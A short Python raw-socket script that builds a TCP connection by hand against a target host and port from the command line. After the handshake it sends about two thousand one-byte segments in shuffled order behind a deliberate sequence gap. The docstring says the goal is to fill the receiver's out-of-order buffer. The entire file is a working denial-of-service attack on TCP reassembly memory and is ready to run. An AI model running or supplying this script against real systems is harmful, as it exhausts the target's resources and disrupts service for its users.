"""SRC DST PORT: a connection by hand, whose segments come in random order behind a hole until the
receiver has no room for them."""

import random
import socket
import struct
import sys

SRC, DST, DPORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
SPORT = random.randrange(30000, 60000)
SYN, ACK = 0x02, 0x10
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
receiver = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
receiver.settimeout(20)


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def send(seq, ack, flags, data=b""):
    ends = socket.inet_aton(SRC) + socket.inet_aton(DST)
    tcp = struct.pack("!HHIIBBHHH", SPORT, DPORT, seq, ack, 5 << 4, flags, 65535, 0, 0) + data
    pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + ends
    sender.sendto(ip + tcp, (DST, 0))


first = 1000
send(first, 0, SYN)
while True:
    packet = receiver.recv(4096)
    if struct.unpack("!H", packet[22:24])[0] == SPORT and packet[33] == SYN | ACK:
        break
ack = (struct.unpack("!I", packet[24:28])[0] + 1) & 0xFFFFFFFF
send(first + 1, ack, ACK)
holes = list(range(2, 4000, 2))
random.shuffle(holes)
for hole in holes:
    send(first + 1 + hole, ack, ACK, b"x")
